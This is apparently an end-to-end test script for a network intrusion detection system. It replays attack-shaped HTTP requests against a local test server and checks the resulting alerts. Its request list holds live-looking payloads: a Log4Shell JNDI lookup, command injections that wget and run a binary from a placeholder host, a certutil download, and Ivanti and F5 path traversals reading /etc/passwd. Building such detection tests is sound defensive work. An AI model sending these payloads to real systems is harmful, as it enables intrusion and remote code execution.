#!/usr/bin/env python3
"""Traffic and checks for tests/e2e/test_lotl.sh: living-off-the-land and exploit requests,
and benign ones, each on its own TCP connection from its own client port, so every flow
in the EVE output can be told by its client port.

usage:
  lotl_traffic.py serve ADDR4 ADDR6 PORT SECONDS   HTTP server (in the gateway namespace)
  lotl_traffic.py client ADDR4 ADDR6 PORT [NAME]   every request of REQUESTS in order, or
                                                   only the one called NAME
  lotl_traffic.py flood IFACE SRC_MAC COUNT SECS   COUNT TCP segments with an HTTP request
                                                   each, over 1024 flows, as fast as Python
                                                   sends them (at most SECS seconds), to a
                                                   MAC no host has: only the datapath sees
                                                   them
  lotl_traffic.py vlan IFACE DST_MAC SRC_MAC STEP  hand-built 802.1Q TCP frames, STEP syn
                                                   (client), synack (server), data (client)
  lotl_traffic.py check EVE_FILE                   the alerts against EXPECTED (exit 1 and
                                                   FAIL lines when they differ)
  lotl_traffic.py enforce ADDR4 PORT               a request a `drop` rule matches, then a
                                                   second one on the same connection (must
                                                   go unanswered), then a new connection
                                                   (must be answered); exit 0 when so
"""
import base64
import json
import socket
import struct
import sys
import threading
import time

UA = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


def get(path, ua=UA, host="gw.example"):
    return ("GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: */*\r\n\r\n"
            % (path, host, ua)).encode()


def post(path, body, ua=UA):
    return ("POST %s HTTP/1.1\r\nHost: gw.example\r\nUser-Agent: %s\r\n"
            "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n%s"
            % (path, ua, len(body), body)).encode()


LOG4SHELL = get("/app/login", ua="${jndi:ldap://198.51.100.7:1389/a}")

# (name, family, client port, [payloads sent one after another on the connection])
REQUESTS = [
    ("log4shell_user_agent", 4, 41001, [LOG4SHELL]),
    # the same request twice on one connection: still one alert for the flow
    ("log4shell_twice_one_flow", 4, 41002, [LOG4SHELL, LOG4SHELL]),
    ("log4shell_url_encoded", 4, 41003,
     [get("/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%3A1389%2Fa%7D")]),
    ("cmd_injection_url_encoded", 4, 41004,
     [get("/cgi-bin/ping.cgi?addr=127.0.0.1%3B%20wget%20http%3A%2F%2F198.51.100.7"
          "%2Fx%20-O%20-")]),
    ("ivanti_traversal_encoded", 4, 41005,
     [get("/api/v1/totp/user-backup-code/%2e%2e/%2e%2e/system/system-information",
          ua="python-requests/2.31.0")]),
    ("lotl_chmod_run", 4, 41006,
     [post("/apply.cgi", "ping_ip=127.0.0.1%3Bcd+/tmp%3Bwget+http://198.51.100.7/b%3B"
                         "chmod+777+b%3B./b")]),
    ("certutil_ipv6", 6, 41101,
     [get("/shell.aspx?c=certutil.exe+-urlcache+-split+-f+http://198.51.100.7/a.exe+"
          "C:%5CUsers%5CPublic%5Ca.exe")]),
    ("nikto_ipv6", 6, 41102,
     [get("/cgi-bin/cart32.exe", ua="Mozilla/4.75 (Nikto/2.1.4) (Evasions:None) (Test:000003)")]),
    ("benign_index", 4, 41201, [get("/index.html")]),
    ("benign_search", 4, 41202, [get("/search?q=how+to+use+curl+and+wget")]),
    ("benign_login_form", 4, 41203, [post("/login", "user=admin&password=correct+horse")]),
    ("benign_ipv6", 6, 41301, [get("/status.json")]),
]

# Hand-built 802.1Q (VLAN 100) TCP exchange: SYN, SYN-ACK, ACK, then the payloads, each
# twice (one alert per flow). The kernel has no VLAN device to deliver them to; the
# datapath sees and samples them on the wire.
VLAN_ID = 100
VLAN_CLIENT = ("198.19.100.2", 41401)
VLAN_SERVER = ("198.19.100.1", 8080)
VLAN_BENIGN_PORT = 41402
VLAN_ATTACK = get("/tmui/login.jsp/%2e%2e%3b/tmui/locallb/workspace/fileRead.jsp?"
                  "fileName=/etc/passwd")
VLAN_BENIGN = get("/tmui/login.jsp")

# client port -> the sids that must alert on that flow, once each, and why
EXPECTED = {
    41001: [9104001],	# ${jndi: in the User-Agent
    41002: [9104001],	# ... sent twice on one connection: one alert for the flow
    41003: [9104003],	# the lookup percent-encoded in the URI
    # "; wget http://..." percent-encoded in a CGI parameter, and that parameter is a
    # diagnostics form's address (addr=): command injection there too
    41004: [9104030, 9104034],
    41005: [9103001],	# Ivanti CVE-2023-46805: %2e%2e traversal out of user-backup-code
    # cd /tmp; wget ...; chmod 777 x; ./x in a form body: the staging and the run, and
    # the injection itself in the ping form's ping_ip field
    41006: [9101003, 9101004, 9104034],
    41101: [9102001],	# certutil -urlcache over IPv6
    41102: [9104050],	# the Nikto user agent over IPv6
    # VLAN 100, hand-built, sent twice: F5 CVE-2020-5902 ..; traversal, and the
    # fileName=/etc/passwd it reads (the traversal rule is flow:to_server only)
    VLAN_CLIENT[1]: [9103050, 9104020],
    # 41201-41203, 41301 and the tagged benign flow: no alert
}


def serve(addr4, addr6, port, seconds):
    deadline = time.time() + seconds

    def handle(conn):
        conn.settimeout(3)
        buf = b""
        try:
            while True:
                data = conn.recv(65536)
                if not data:
                    break
                buf += data
                while b"\r\n\r\n" in buf:
                    head, _, buf = buf.partition(b"\r\n\r\n")
                    length = 0
                    for line in head.split(b"\r\n")[1:]:
                        name, _, value = line.partition(b":")
                        if name.strip().lower() == b"content-length":
                            length = int(value)
                    while len(buf) < length:
                        more = conn.recv(65536)
                        if not more:
                            break
                        buf += more
                    buf = buf[length:]
                    body = b"<html><body>ok</body></html>"
                    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"
                                 b"Content-Length: %d\r\n\r\n%s" % (len(body), body))
        except OSError:
            pass
        conn.close()

    def listen(family, addr):
        s = socket.socket(family, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((addr, port))
        s.listen(64)
        s.settimeout(0.5)
        while time.time() < deadline:
            try:
                conn, _ = s.accept()
            except socket.timeout:
                continue
            threading.Thread(target=handle, args=(conn,), daemon=True).start()
        s.close()

    threads = [threading.Thread(target=listen, args=(socket.AF_INET, addr4)),
               threading.Thread(target=listen, args=(socket.AF_INET6, addr6))]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return 0


def client(addr4, addr6, port, only=None):
    for name, family, cport, payloads in REQUESTS:
        if only and name != only:
            continue
        af = socket.AF_INET if family == 4 else socket.AF_INET6
        src = "198.18.0.2" if family == 4 else "2001:db8::2"
        s = socket.socket(af, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.settimeout(5)
        s.bind((src, cport))
        s.connect((addr4 if family == 4 else addr6, port))
        for payload in payloads:
            s.sendall(payload)
            reply = s.recv(65536)	# one response per request: separate segments
            if not reply.startswith(b"HTTP/1.1 200"):
                print("client: %s: no answer" % name, file=sys.stderr)
                return 1
        s.close()
        time.sleep(0.05)
    return 0


DROP_PORT, AFTER_DROP_PORT = 41501, 41502


def enforce(addr4, port):
    def connect(cport):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.settimeout(3)
        s.bind(("198.18.0.2", cport))
        s.connect((addr4, port))
        return s

    s = connect(DROP_PORT)
    s.sendall(get("/drop-me"))
    if not s.recv(65536).startswith(b"HTTP/1.1 200"):
        print("the request that matched was not answered")
        return 1
    time.sleep(0.5)	# the sample is scanned, the flow blocked
    s.sendall(get("/after"))
    try:
        reply = s.recv(65536)	# b"": the server gave up waiting and closed
    except socket.timeout:
        reply = b""
    if reply:
        print("the blocked flow's next request was answered: %r" % reply[:40])
        return 1
    s.close()
    s = connect(AFTER_DROP_PORT)
    s.sendall(get("/index.html"))
    ok = s.recv(65536).startswith(b"HTTP/1.1 200")
    s.close()
    if not ok:
        print("a new connection was not answered")
        return 1
    return 0


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def tcp_frame(dst_mac, src_mac, src, dst, seq, ack, flags, payload=b""):
    (saddr, sport), (daddr, dport) = src, dst
    s_ip, d_ip = socket.inet_aton(saddr), socket.inet_aton(daddr)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 64240, 0, 0)
    pseudo = s_ip + d_ip + struct.pack("!BBH", 0, 6, len(tcp) + len(payload))
    csum = checksum(pseudo + tcp + payload)
    tcp = tcp[:16] + struct.pack("!H", csum) + tcp[18:] + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, s_ip, d_ip)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    l2 = bytes.fromhex(dst_mac.replace(":", "")) + bytes.fromhex(src_mac.replace(":", ""))
    return l2 + struct.pack("!HH", 0x8100, VLAN_ID) + struct.pack("!H", 0x0800) + ip + tcp


SYN, ACK, PSH = 0x02, 0x10, 0x08


def vlan(iface, dst_mac, src_mac, step):
    """One step of the tagged exchanges, from the side that sends it: the client's SYN,
    the server's SYN-ACK, then the client's ACK and data."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((iface, 0))
    frames = []
    for cport, payload in ((VLAN_CLIENT[1], VLAN_ATTACK), (VLAN_BENIGN_PORT, VLAN_BENIGN)):
        c, s = (VLAN_CLIENT[0], cport), VLAN_SERVER
        if step == "syn":
            frames.append(tcp_frame(dst_mac, src_mac, c, s, 1000, 0, SYN))
        elif step == "synack":
            frames.append(tcp_frame(dst_mac, src_mac, s, c, 5000, 1001, SYN | ACK))
        else:
            frames.append(tcp_frame(dst_mac, src_mac, c, s, 1001, 5001, ACK))
            seq = 1001
            for _ in range(2):
                frames.append(tcp_frame(dst_mac, src_mac, c, s, seq, 5001, PSH | ACK, payload))
                seq += len(payload)
    for f in frames:
        sock.send(f)
        time.sleep(0.02)
    return 0


def flood(iface, src_mac, count, seconds):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((iface, 0))
    request = get("/index.html")
    # a locally administered unicast MAC: the gateway's stack drops the frames unread
    dst_mac = "02:00:00:00:00:99"
    frames = []
    for i in range(1024):
        tagged = tcp_frame(dst_mac, src_mac, ("198.18.0.2", 20000 + i), ("198.18.0.1", 80),
                           1, 1, PSH | ACK, request)
        frames.append(tagged[:12] + tagged[16:])	# untagged: drop the 802.1Q header
    deadline = time.time() + seconds
    sent = 0
    while sent < count and time.time() < deadline:
        for f in frames:
            sock.send(f)
        sent += len(frames)
    print("flood: %d frames" % sent)
    return 0


def load_events(path):
    with open(path) as f:
        return [json.loads(line) for line in f if line.strip()]


def client_port(ev):
    """The flow's client port: the initiator's (flow.src_port)."""
    return ev.get("flow", {}).get("src_port", ev.get("src_port"))


def check(path, expected):
    events = load_events(path)
    alerts = [e for e in events if e.get("event_type") == "alert" and
              9100000 <= e["alert"]["signature_id"] <= 9199999]
    failures = []
    seen = {}
    for a in alerts:
        seen.setdefault(client_port(a), []).append(a)
    for port, sids in sorted(expected.items()):
        got = sorted(a["alert"]["signature_id"] for a in seen.get(port, []))
        if got != sorted(sids):
            failures.append("port %d: alerts %s, expected each of %s once" % (port, got,
                                                                             sorted(sids)))
    for port in sorted(set(seen) - set(expected)):
        failures.append("port %s: unexpected alerts %s" % (
            port, [a["alert"]["signature_id"] for a in seen[port]]))
    flagged = {e["flow_id"] for e in events
               if e.get("event_type") == "flow" and e["flow"].get("alerted")}
    for a in alerts:
        if a["flow_id"] not in flagged:
            failures.append("sid %d: its flow's event does not say alerted" %
                            a["alert"]["signature_id"])
        payload = base64.b64decode(a.get("payload", ""))
        if not payload or a["alert"]["action"] != "allowed":
            failures.append("sid %d: no payload or action %s" % (a["alert"]["signature_id"],
                                                                a["alert"]["action"]))
    for f in failures:
        print(f)
    return 1 if failures else 0


def main(argv):
    cmd = argv[1]
    if cmd == "serve":
        return serve(argv[2], argv[3], int(argv[4]), float(argv[5]))
    if cmd == "client":
        return client(argv[2], argv[3], int(argv[4]), argv[5] if len(argv) > 5 else None)
    if cmd == "flood":
        return flood(argv[2], argv[3], int(argv[4]), float(argv[5]))
    if cmd == "vlan":
        return vlan(argv[2], argv[3], argv[4], argv[5])
    if cmd == "enforce":
        return enforce(argv[2], int(argv[3]))
    if cmd == "check":
        return check(argv[2], EXPECTED)
    print(__doc__, file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv))
